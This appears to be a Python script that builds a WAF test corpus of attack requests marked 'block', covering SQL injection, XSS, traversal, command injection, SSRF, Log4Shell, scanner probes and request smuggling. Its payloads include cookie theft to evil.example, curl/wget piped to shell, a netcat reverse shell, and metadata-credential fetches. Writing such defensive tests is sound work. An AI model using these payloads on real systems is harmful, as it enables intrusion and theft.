import json, os, base64
OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "attacks")
os.makedirs(OUT, exist_ok=True)
cats = {}
def add(cat, **e):
    cats.setdefault(cat, []).append(e)
# sqli
add("sqli", target="/collections/all?sort_by=price-ascending%20AND%20(SELECT%209821%20FROM%20(SELECT(SLEEP(5)))xQzB)", note="time-based in sort param")
add("sqli", method="POST", target="/account/login", profile="form", form=[["email", "admin@example.com' OR 1=1 LIMIT 1-- -"], ["password", "x"]], note="login bypass in form")
add("sqli", method="POST", target="/api/v1/search/orders", profile="xhr", json={"q": "paid", "order_by": "created_at,(select case when (1=1) then 1 else 1/(select 0) end)"}, note="order-by injection in JSON")
add("sqli", target="/products/8871", headers=[["Cookie", "sessionid=k3j4h5; cart_id=1' AND extractvalue(1,concat(0x7e,(select version())))-- -"]], note="error-based in cookie")
add("sqli", target="/api/v2/orders?fields=id,total_price&status=shipped'%3BDROP%20TABLE%20orders%3B--", profile="api", note="stacked drop in query")
add("sqli", target="/search?q=1%27%29%29%20UNION%20ALL%20SELECT%20NULL%2CNULL%2Cpassword_hash%20FROM%20users--%20", note="union with closing parens")
add("sqli", method="POST", target="/graphql", profile="xhr", json={"query": "query($h: String!) { product(handle: $h) { id } }", "variables": {"h": "x' UNION SELECT table_name FROM information_schema.tables WHERE '1'='1"}}, note="GraphQL variable union")
add("sqli", target="/api/mobile/v3/home?lat=53.3%20AND%203371%3DCAST((CHR(113)||CHR(106))||(SELECT%20current_user)%20AS%20NUMERIC)", profile="mobile_app", note="PostgreSQL cast error in mobile param")
# xss
add("xss", target="/search?q=%3Cscript%3Efetch(%27https%3A%2F%2Fevil.example%2Fc%3F%27%2Bdocument.cookie)%3C%2Fscript%3E", note="reflected script stealing cookie")
add("xss", method="POST", target="/products/8871/reviews", profile="form", form=[["rating", "5"], ["body", "Nice table <img src=x onerror=\"this.src='//evil.example/?'+document.cookie\">"]], note="stored xss in review")
add("xss", method="POST", target="/api/comments", profile="xhr", json={"thread_id": 991, "body_markdown": "[click me](javascript:alert(document.domain))"}, note="markdown javascript: link")
add("xss", target="/login?next=javascript%3Aalert(1)%2F%2F", note="javascript: in redirect param")
add("xss", method="POST", target="/admin/pages/17/edit", profile="form", form=[["title", "About"], ["content", "<p>hi</p><svg/onload=eval(atob('YWxlcnQoMSk='))>"]], note="svg onload in CMS save")
add("xss", target="/", headers=[["Referer", "https://shop.example.com/\"><script>alert(1)</script>"]], note="xss in Referer")
add("xss", target="/store-locator?near=%22%20autofocus%20onfocus%3Dalert(1)%20x%3D%22", note="attribute breakout")
add("xss", method="POST", target="/support/tickets", profile="form", form=[["subject", "help"], ["body", "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>"]], note="iframe srcdoc entity-encoded")
# lfi / path traversal
add("lfi", target="/_next/image?url=..%2F..%2F..%2F..%2Fetc%2Fpasswd&w=64&q=75", profile="chrome_img", note="traversal in image optimizer url")
add("lfi", target="/static/..%252f..%252f..%252fetc%252fshadow", profile="chrome_css", note="double-encoded traversal in path")
add("lfi", target="/api/v1/files/download?path=/proc/self/environ", profile="xhr", note="proc environ")
add("lfi", method="POST", target="/api/v1/documents", profile="api_multipart", multipart={"boundary": "acme-sync-boundary-2f9c", "parts": [{"name": "file", "filename": "../../../../var/www/html/shell.php", "content_type": "text/plain", "data": "hello"}]}, note="multipart filename traversal")
add("lfi", target="/help/article?page=....%2F%2F....%2F%2F....%2F%2Fwindows%2Fwin.ini", note="filter-bypass dots on windows")
add("lfi", target="/theme/preview?template=php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dconfig.php", note="php filter wrapper")
add("lfi", target="/.git/config", profile="none", headers=[["User-Agent", "Mozilla/5.0"], ["Accept", "*/*"]], note="git config probe")
# rce
add("rce", method="POST", target="/admin/tools/ping", profile="form", form=[["host", "8.8.8.8; curl -s http://203.0.113.9/x.sh | sh"]], note="ping form chained curl|sh")
add("rce", target="/api/v1/inventory?sku=DLT%60id%60&warehouse=east", profile="api", note="backtick in sku")
add("rce", method="POST", target="/api/v1/reports/export", profile="xhr", json={"format": "csv", "filename": "report$(wget -qO- 198.51.100.7/a|bash).csv"}, note="$() in JSON filename")
add("rce", target="/cgi-bin/status", profile="none", headers=[["User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"], ["Accept", "*/*"]], note="shellshock UA")
add("rce", method="POST", target="/admin/tools/convert", profile="form", form=[["src", "a.png"], ["opts", "-resize 50% && nc -e /bin/sh 203.0.113.9 4444"]], note="netcat reverse shell")
add("rce", target="/api/v1/diag?cmd=c%5Ca%5Ct%20%2Fe%5Ct%5Cc%2Fp%5Cas%5Csw%5Cd", profile="xhr", note="backslash-obfuscated cat")
add("rce", method="POST", target="/api/v1/convert", profile="xhr", json={"url": "https://example.com/a.pdf", "pages": "1-2|powershell -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA"}, note="powershell encoded command")
# ssrf
add("ssrf", method="POST", target="/api/v1/webhooks/endpoints", profile="xhr", json={"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "events": ["order.created"]}, note="AWS metadata as webhook url")
add("ssrf", target="/_next/image?url=http%3A%2F%2F127.0.0.1%3A6379%2F&w=64&q=75", profile="chrome_img", note="loopback redis via image optimizer")
add("ssrf", target="/r?u=gopher%3A%2F%2F127.0.0.1%3A11211%2F_stats", note="gopher to memcached")
add("ssrf", method="POST", target="/admin/products/import-from-url", profile="form", form=[["feed_url", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"]], note="GCP metadata")
add("ssrf", target="/api/v1/preview?link=http%3A%2F%2F0x7f000001%3A8080%2Fadmin", profile="xhr", note="hex loopback")
add("ssrf", target="/proxy?target=file%3A%2F%2F%2Fetc%2Fhosts", note="file scheme")
# log4shell / java
add("java", target="/", headers=[["X-Forwarded-For", "${jndi:ldap://203.0.113.9:1389/a}"]], note="jndi in XFF")
add("java", target="/api/mobile/v3/home", profile="mobile_app", headers=[["X-Device-Id", "${${lower:j}ndi:${lower:r}mi://198.51.100.7/o}"]], note="obfuscated jndi in custom header")
add("java", method="POST", target="/api/support/tickets", profile="xhr", json={"subject": "${jndi:dns://x.oast.example/h}", "description": "hi"}, note="jndi in JSON")
add("java", target="/login", headers=[["Cookie", "lang=${${::-j}${::-n}${::-d}${::-i}:ldap://203.0.113.9/e}"]], note="::- obfuscation in cookie")
add("java", target="/search?q=${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.example/a}", note="env-default obfuscation in query (raw braces)")
add("java", target="/products?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di", note="Spring4Shell")
# scanner
add("scanner", target="/", profile="none", headers=[["User-Agent", "sqlmap/1.7.11#stable (https://sqlmap.org)"], ["Accept", "*/*"]], note="sqlmap UA")
add("scanner", target="/wp-login.php", profile="none", headers=[["User-Agent", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"]], note="WPScan")
add("scanner", target="/.env", profile="none", headers=[["User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.114 Safari/537.36"]], note=".env probe")
add("scanner", target="/admin/config.php.bak", profile="none", headers=[["User-Agent", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"]], note="nuclei backup probe")
add("scanner", target="/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=1", profile="none", headers=[["User-Agent", "Mozilla/5.0"]], note="ThinkPHP probe")
add("scanner", target="/robots.txt", profile="none", headers=[["User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"]], note="Nikto UA")
# protocol
add("protocol", raw="POST /api/cart HTTP/1.1\r\nHost: shop.example.com\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: shop.example.com\r\n\r\n", note="CL+TE smuggling")
add("protocol", raw="GET /account HTTP/1.1\r\nHost: shop.example.com\r\nHost: internal.example.com\r\n\r\n", note="duplicate Host")
add("protocol", raw="GET / HTTP/1.1\r\nHost: shop.example.com\r\nX-Foo: a\r\n b\r\n\r\n", note="obs-fold")
add("protocol", raw="POST /api/cart HTTP/1.1\r\nHost: shop.example.com\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n5\r\nhello\r\n0\r\n\r\n", note="double TE")
add("protocol", target="/account?next=%0d%0aSet-Cookie:%20sessionid=attacker", note="CRLF in redirect param")
add("protocol", raw="GET /\x00admin HTTP/1.1\r\nHost: shop.example.com\r\n\r\n", note="NUL in target")
add("protocol", method="POST", target="/api/v1/users/me", profile="xhr", headers=[["Content-Type", "application/x-java-serialized-object"]], body="\u00ac\u00ed\u0000\u0005sr\u0000\u0011java.util.HashMap", note="java serialized content type")
# evasion
add("evasion", target="/search?q=1%27%20UnIoN%2F**%2FsElEcT%2F**%2F1%2Cuser()%2C3--", note="comment-split union mixed case")
add("evasion", target="/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", note="double-encoded script")
add("evasion", target="/search?q=%u003cscript%u003ealert(1)%u003c/script%u003e", note="%u-encoded script")
add("evasion", method="POST", target="/api/v1/search/orders", profile="xhr", headers=[["Content-Type", "application/json"]], body='{"q":"x\\u0027 or \\u00271\\u0027=\\u00271"}', note="tautology with JSON \\u0027 escapes on the wire")
add("evasion", method="POST", target="/account/login", profile="form", headers=[["Content-Type", "application/x-www-form-urlencoded; charset=ibm037"]], body="%89%95%97%A4%A3%7E%7D%96%99%7D", note="ibm037 charset body")
add("evasion", target="/api/v1/diag?host=127.0.0.1%0Aid", profile="xhr", note="newline command separator")
add("evasion", target="/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", profile="chrome_css", note="overlong UTF-8 dots")
add("evasion", target="/api/v1/diag?cmd=/???/c?t+/???/p??s??", profile="xhr", note="glob-obfuscated cat passwd")

tot = 0
for cat, es in cats.items():
    with open(os.path.join(OUT, cat + ".jsonl"), "w", encoding="utf-8") as f:
        for i, e in enumerate(es, 1):
            d = {"id": "h9-%s-%03d" % (cat, i), "category": cat, "expect": "block"}
            d.update(e)
            f.write(json.dumps(d, ensure_ascii=False) + "\n")
    tot += len(es); print(cat, len(es))
print("total", tot)
